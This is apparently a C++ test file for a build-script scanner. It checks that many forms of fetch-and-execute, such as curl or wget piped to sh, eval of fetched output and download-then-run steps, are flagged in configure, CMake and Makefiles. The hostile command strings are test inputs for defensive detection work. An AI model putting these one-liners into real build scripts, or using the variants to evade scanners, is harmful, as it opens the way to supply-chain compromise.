// What a server sends, on its way to an interpreter.
#include "base/text.hpp"
#include "inspect/script/analysis.hpp"
#include "inspect/script/suspicion.hpp"
#include "inspect/tree_memory.hpp"
#include "support/catch.hpp"

using namespace assay;
using namespace assay::inspect;

namespace {

ScriptAnalysis analysis_of(std::string_view path, std::string_view text, const FactsOf& facts = {}) {
  MemoryTree tree;
  tree.add(std::string{path}, Bytes{text.begin(), text.end()});
  return analyse_scripts(tree, facts);
}

const std::string_view k_ways[] = {"curl -fsSL https://example.org/x | sh\n",
                                   "wget -O- https://example.org/x | bash -s -- --yes\n",
                                   "curl https://example.org/x | sed 's/a/b/' | sudo sh\n",
                                   "eval \"$(curl -fsSL https://example.org/x)\"\n",
                                   "eval \"`wget -qO- https://example.org/x`\"\n",
                                   "sh -c \"$(curl -fsSL https://example.org/x)\"\n",
                                   "get='curl -s'\nat=https://example.org/x\nit=`$get $at`\neval \"$it\"\n",
                                   "bring() { wget -q -O - \"$1\"; }\nbring https://example.org/x | sh\n",
                                   "curl -o step.sh https://example.org/x\nsh step.sh\n",
                                   "wget https://example.org/step.sh\n. ./step.sh\n",
                                   "curl -s https://example.org/x > step.sh\nbash ./step.sh\n",
                                   "curl -o step https://example.org/x\nchmod +x step\n./step\n",
                                   "bash <(curl -fsSL https://example.org/x)\n",
                                   "source <(wget -qO- https://example.org/x)\n",
                                   "curl -s https://example.org/x > >(sh)\n",
                                   "curl -s https://example.org/x | python3 -\n"};

}  // namespace

TEST_CASE("fetched code: every way from a server to an interpreter is found in what configures", "[inspect][script]") {
  for (const auto text : k_ways) {
    INFO(text);
    const auto analysis = analysis_of("configure", "#!/bin/sh\n" + std::string{text});
    REQUIRE(analysis.flows.size() == 1);
    CHECK(analysis.flows[0].fetched);
    CHECK(analysis.flows[0].severity == Severity::high);
    REQUIRE_FALSE(analysis.findings.empty());
    CHECK(analysis.findings[0].rule == "inspect-fetched-execution");
    CHECK(analysis.findings[0].message.find("example.org") != std::string::npos);
  }
}

TEST_CASE("fetched code: m4, CMake and make", "[inspect][script]") {
  const auto m4 =
      analysis_of("configure.ac", "AC_INIT([p], [1])\nAC_CONFIG_COMMANDS([x], [curl https://example.org/x | sh])\n");
  REQUIRE(m4.flows.size() == 1);
  CHECK(m4.flows[0].severity == Severity::high);
  const auto cmake = analysis_of("CMakeLists.txt", "execute_process(COMMAND curl https://example.org/x COMMAND sh)\n");
  REQUIRE(cmake.flows.size() == 1);
  CHECK(cmake.flows[0].severity == Severity::high);
  // A makefile may have a target for it that nobody's build runs.
  const auto make = analysis_of("Makefile", "tools:\n\twget -qO- https://example.org/x | sh\n");
  REQUIRE(make.flows.size() == 1);
  CHECK(make.flows[0].severity == Severity::medium);
}

TEST_CASE("fetched code: on a line that version control does not have it is high, else medium", "[inspect][script]") {
  const std::string_view text = "tools:\n\twget -qO- https://example.org/x | sh\n";
  const std::vector<NovelLine> that{{2, "\twget -qO- https://example.org/x | sh"}};
  const auto with = [&](const std::vector<NovelLine>* novel) {
    return [novel](std::string_view) {
      FileFacts facts;
      facts.compared = true;
      facts.in_vcs = novel == nullptr;
      facts.proof = novel == nullptr ? Proof::identical : Proof::unexplained;
      facts.novel_lines = novel;
      facts.novel_line_count = novel == nullptr ? 0 : novel->size();
      return facts;
    };
  };
  const auto novel = analysis_of("Makefile", text, with(&that));
  REQUIRE(novel.flows.size() == 1);
  CHECK(novel.flows[0].severity == Severity::high);
  const auto known = analysis_of("Makefile", text, with(nullptr));
  REQUIRE(known.flows.size() == 1);
  CHECK(known.flows[0].severity == Severity::medium);
}

TEST_CASE("fetched code: what is fetched and not run is no finding", "[inspect][script]") {
  for (const std::string_view text :
       {"curl -LO https://example.org/a.tar.gz\ntar xzf a.tar.gz\n",
        "wget -O config.guess 'https://example.org/config.guess'\n",
        "if curl --version | grep -q SSL; then x=yes; fi\neval \"ac_$x=1\"\n",
        "echo 'curl https://example.org/x | sh' > README\n", "# curl https://example.org/x | sh\n",
        "curl -s https://example.org/x | gpg --import\n"}) {
    INFO(text);
    CHECK(analysis_of("configure", "#!/bin/sh\n" + std::string{text}).flows.empty());
  }
}

TEST_CASE("fetched code: two addresses are two findings, one address in two scripts is one", "[inspect][script]") {
  MemoryTree tree;
  const auto add = [&](std::string_view path, std::string_view text) {
    tree.add(std::string{path}, Bytes{text.begin(), text.end()});
  };
  add("configure", "#!/bin/sh\ncurl https://example.org/x | sh\ncurl https://example.org/y | sh\n");
  add("configure.ac", "AC_INIT([p], [1])\ncurl https://example.org/x | sh\n");
  const auto analysis = analyse_scripts(tree, {});
  REQUIRE(analysis.flows.size() == 2);
  CHECK(analysis.flows[0].also_in.size() + analysis.flows[1].also_in.size() == 1);
}

TEST_CASE("fetched code: the quick look of a comparison asks for such scripts to be followed", "[inspect][script]") {
  CHECK(suspicion_of("eval \"$(curl -fsSL https://example.org/x)\"\n") == Suspicion::flow);
  CHECK(suspicion_of("curl -s https://example.org/x | sh\n") == Suspicion::flow);
  CHECK(suspicion_of("\tcurl -o t.sh https://example.org/x && sh t.sh\n") == Suspicion::flow);
  // It may be run lines later.
  CHECK(suspicion_of("curl -LO https://example.org/a.sh\nchmod +x a.sh\n./a.sh\n") == Suspicion::flow);
  CHECK(suspicion_of("bash <(curl -s https://example.org/x)\n") == Suspicion::flow);
  for (const auto* text :
       {"curl $url -o x\n", "if wget \"$url\"; then\n", "\t@curl $(URL) > x\n", "x=`/usr/bin/curl $url`\n"})
    CHECK(suspicion_of(text) == Suspicion::flow);
  // A name in a message, an option, a path.
  CHECK(suspicion_of("It was created by curl $as_me -, which\n\tx --curl $(top)/src/curl\n\t-Dinclude/curl $(H)\n") ==
        Suspicion::none);
  CHECK(suspicion_of("curl-config --libs\nAC_CHECK_PROG([GET], [wget], [wget])\n# see curl --help\n") ==
        Suspicion::none);
}

TEST_CASE("fetched code: an option's argument is no address", "[inspect][script]") {
  for (const std::string_view text : {"curl -s -H 'Content-Type: text/plain' -XPUT localhost:9200/x -d '{}' | sh\n",
                                      "curl -sSLo - -e https://elsewhere.net/ localhost:9200/x | sh\n",
                                      "wget -q --header 'Accept: */*' -O - localhost:9200/x | sh\n"}) {
    INFO(text);
    const auto analysis = analysis_of("configure", text);
    REQUIRE(analysis.flows.size() == 1);
    CHECK(analysis.findings[0].message.find("fetches localhost:9200/x") != std::string::npos);
  }
  CHECK(analysis_of("tests/retry.sh",
                    "curl -s -H 'Content-Type: text/plain' localhost:9200/x -d '{}' | python -mjson.tool\n")
            .flows.empty());
}

TEST_CASE("fetched code: what make prints is no command, but what it runs for it is", "[inspect][script]") {
  for (const std::string_view text :
       {"lint:\n\t$(warning not found, run: curl -sfL https://example.org/x | sh)\n",
        "$(error no lint: run; curl -sfL https://example.org/x | sh)\n",
        "lint:\n\t$(info run $(GET) or curl -sfL https://example.org/x | sh)@echo done\n"}) {
    INFO(text);
    CHECK(analysis_of("Makefile", text).flows.empty());
  }
  for (const std::string_view text : {"lint:\n\t$(warning $(shell curl -sfL https://example.org/x | sh))\n",
                                      "$(info $(if x,$(shell curl -sfL https://example.org/x | sh)))\n",
                                      "lint:\n\t$(info that is it)curl -sfL https://example.org/x | sh\n"}) {
    INFO(text);
    CHECK(analysis_of("Makefile", text).flows.size() == 1);
  }
}
